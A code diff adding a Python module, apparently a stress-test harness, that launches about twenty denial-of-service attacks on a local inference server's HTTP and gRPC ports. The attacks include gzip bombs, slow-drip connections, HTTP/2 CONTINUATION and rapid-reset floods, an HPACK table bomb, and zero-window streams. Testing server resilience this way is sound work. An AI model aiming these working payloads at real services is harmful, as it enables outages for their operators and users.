@@ -1,0 +1,223 @@
+"""Clients that want to do harm, each kind in a process of its own."""
+
+import asyncio
+import gzip
+import multiprocessing
+import socket
+import time
+from dataclasses import dataclass
+from typing import Callable
+
+from . import frames
+
+PING = frames.frame(frames.PING, 0, 0, b"pingpong")
+# Setting of Linux's sockets by which one can be closed without a word to its peer.
+TCP_REPAIR = 19
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A kind of harm: its name, the wires that it speaks, its connections, and what each of them does until it ends."""
+
+    name: str
+    wires: tuple
+    connections: int
+    act: Callable
+
+
+async def swallow(reader, seconds: float) -> bytes:
+    """Reads until the other side ends, or for so long."""
+    told = b""
+    try:
+        while piece := await asyncio.wait_for(reader.read(65536), seconds):
+            told = (told + piece)[-4096:]
+    except (asyncio.TimeoutError, ConnectionError):
+        pass
+    return told
+
+
+async def send(port: int, payload: bytes, seconds: float = 10.0) -> bytes:
+    """Sends it all on a new connection, and reads what comes back."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    try:
+        writer.write(payload)
+        answer = asyncio.ensure_future(swallow(reader, seconds))
+        await asyncio.wait_for(writer.drain(), seconds)
+        return await answer
+    except (ConnectionError, asyncio.TimeoutError):
+        return b""
+    finally:
+        writer.close()
+
+
+def again(payload: Callable, seconds: float = 3.0) -> Callable:
+    """Sends a payload again and again."""
+
+    async def act(port: int, host: str, end: float) -> None:
+        whole = payload(host)
+        while time.monotonic() < end:
+            await send(port, whole, seconds)
+
+    return act
+
+
+def hold(begin: Callable, drip: bytes = b"", every: float = 1.0) -> Callable:
+    """Holds a connection with as little as possible, and opens another where it ends."""
+
+    async def act(port: int, host: str, end: float) -> None:
+        while time.monotonic() < end:
+            reader, writer = await asyncio.open_connection("127.0.0.1", port)
+            ended = asyncio.ensure_future(swallow(reader, end - time.monotonic()))
+            try:
+                writer.write(begin(host))
+                while time.monotonic() < end and not ended.done():
+                    await asyncio.wait([ended], timeout=min(every, end - time.monotonic()))
+                    writer.write(drip)
+                    await writer.drain()
+            except ConnectionError:
+                pass
+            finally:
+                ended.cancel()
+                writer.close()
+
+    return act
+
+
+def post(path: str, length: str) -> Callable:
+    return lambda host: f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{length}\r\n\r\n".encode()
+
+
+def rpc(path: str, content: bytes, *more: tuple, step: int = 16384, last: bool = True, **settings: int) -> Callable:
+    return lambda host: (frames.preface(**settings) + frames.call(1, path, host, *more)
+                         + frames.data(1, content, last, step))
+
+
+INFER = "/v2/models/add_sub/infer"
+# Just less than a stream's window, so that it leaves at once.
+EMPTY_INPUTS = frames.message(b"\x2a\x00" * (2**19 - 8))
+ZEROS = 200 << 20
+BOMB = frames.message(gzip.compress(b"\x3a\x80\x80\x80\x64" + bytes(ZEROS), 9), flag=1)
+CHUNKS = b"1\r\n \r\n" * 100_000
+
+
+async def endless_control(port: int, host: str, end: float) -> None:
+    """A body of 1 GiB for a call that changes a setting."""
+    head = post("/v2/logging", f"Content-Length: {1 << 30}")(host)
+    while time.monotonic() < end:
+        await send(port, head + b"[" * (4 << 20))
+
+
+async def vanish(port: int, host: str, end: float) -> None:
+    """Asks, and is gone without a word: the other side learns of it only by asking."""
+    while time.monotonic() < end:
+        peer = socket.create_connection(("127.0.0.1", port))
+        peer.sendall(post(INFER, "Content-Length: 100")(host))
+        try:
+            peer.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
+        except PermissionError:
+            pass
+        peer.close()
+        await asyncio.sleep(0.5)
+
+
+async def crowd(port: int, host: str, end: float) -> None:
+    """Many connections of one address, opened as fast as they are closed."""
+    held = []
+    while time.monotonic() < end:
+        try:
+            peer = socket.socket()
+            peer.setblocking(False)
+            peer.connect_ex(("127.0.0.1", port))
+            held.append(peer)
+        except OSError:
+            pass
+        if len(held) >= 200:
+            for peer in held[:20]:
+                peer.close()
+            del held[:20]
+        await asyncio.sleep(0.01)
+    for peer in held:
+        peer.close()
+
+
+def endless_head(host: str) -> bytes:
+    return f"GET /v2 HTTP/1.1\r\nHost: {host}\r\n".encode() + b"x: " + b"a" * (1 << 20)
+
+
+def continuation(host: str) -> bytes:
+    """A head of many frames, none of which is the last."""
+    first = frames.frame(frames.HEADERS, 0, 1, frames.fields((":method", "POST"), (":path", "/"), (":authority", host)))
+    more = frames.frame(frames.CONTINUATION, 0, 1, frames.fields(*(("x-a", "b" * 100),) * 100))
+    return frames.preface() + first + more * 200
+
+
+def table_bomb(host: str) -> bytes:
+    """A header that is long once, and then named by a byte each."""
+    long = b"\x40" + frames.string(b"x-a") + frames.string(b"b" * 3900)
+    start = frames.fields((":method", "POST"), (":scheme", "http"), (":path", frames.INFER), (":authority", host))
+    first = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, start + long)
+    second = frames.frame(frames.HEADERS, frames.END_HEADERS, 3, start + b"\xbe" * 16000)
+    return frames.preface() + first + second
+
+
+def resets(host: str) -> bytes:
+    """Calls that are taken back at once."""
+    one = lambda stream: frames.call(stream, frames.INFER, host) + frames.frame(frames.RESET, 0, stream, b"\0\0\0\x08")  # noqa: E731
+    return frames.preface() + b"".join(one(2 * number + 1) for number in range(2000))
+
+
+def promises(host: str) -> bytes:
+    """Streams of messages of 2 GiB each, of which five bytes come."""
+    begin = lambda stream: frames.call(stream, frames.STREAM, host) + frames.data(stream, b"\0\x7f\xff\xff\xff", False)  # noqa: E731
+    return frames.preface() + b"".join(begin(2 * number + 1) for number in range(500))
+
+
+def unread(host: str) -> bytes:
+    """Calls whose answers have no window."""
+    from .neighbours import MESSAGE
+    one = lambda stream: frames.call(stream, frames.INFER, host) + frames.data(stream, MESSAGE)  # noqa: E731
+    return frames.preface(window=0) + b"".join(one(2 * number + 1) for number in range(100))
+
+
+BOTH, HTTP, GRPC, ANY = ("http", "grpc"), ("http",), ("grpc",), ("http", "grpc", "admin")
+CRAWL = 29.0
+
+ATTACKS = [
+    Attack("1 MiB of empty inputs", GRPC, 8, again(rpc(frames.INFER, EMPTY_INPUTS))),
+    Attack("1 MiB of empty inputs on a stream", GRPC, 8, again(rpc(frames.STREAM, EMPTY_INPUTS))),
+    Attack("packed message of 200 MiB", GRPC, 8, again(rpc(frames.INFER, BOMB, ("grpc-encoding", "gzip")))),
+    Attack("control body of 1 GiB", HTTP, 8, endless_control),
+    Attack("body in one-byte chunks", HTTP, 8,
+           again(lambda host: post(INFER, "Transfer-Encoding: chunked")(host) + CHUNKS)),
+    Attack("body in one-byte frames", GRPC, 8, again(rpc(frames.INFER, EMPTY_INPUTS[:100_000], step=1))),
+    Attack("silent connections", ANY, 64, hold(lambda host: b"")),
+    Attack("half a preface", ANY, 64, hold(lambda host: frames.MAGIC[:10])),
+    Attack("preface only", ANY, 64, hold(lambda host: frames.preface())),
+    Attack("pings only", ANY, 64, hold(lambda host: frames.preface(), PING, 0.1)),
+    Attack("body of one byte each 29 s", HTTP, 64, hold(post(INFER, "Content-Length: 100000"), b"1", CRAWL)),
+    Attack("message of one byte each 29 s", GRPC, 64,
+           hold(rpc(frames.INFER, b"\0\0\x01\0\0", last=False), frames.data(1, b"1", False), CRAWL)),
+    Attack("peers that are gone", BOTH, 32, vanish),
+    Attack("heads without end", ANY, 16, again(endless_head, 1.0)),
+    Attack("many connections of one address", ANY, 16, crowd),
+    Attack("heads of CONTINUATION frames without end", GRPC, 8, again(continuation, 1.0)),
+    Attack("headers by a table of one byte each", GRPC, 8, again(table_bomb, 1.0)),
+    Attack("calls reset at once", GRPC, 4, again(resets, 1.0)),
+    Attack("messages of 2 GiB announced", GRPC, 4, again(promises, 2.0)),
+    Attack("answers without a window", GRPC, 4, hold(unread)),
+]
+
+
+def run(attack: Attack, port: int, host: str, seconds: float) -> None:
+    async def all_of() -> None:
+        end = time.monotonic() + seconds
+        acts = [asyncio.wait_for(attack.act(port, host, end), seconds + 1) for _ in range(attack.connections)]
+        await asyncio.gather(*acts, return_exceptions=True)
+
+    asyncio.run(all_of())
+
+
+def start(attack: Attack, port: int, host: str, seconds: float) -> multiprocessing.Process:
+    process = multiprocessing.get_context("fork").Process(target=run, args=(attack, port, host, seconds), daemon=True)
+    process.start()
+    return process
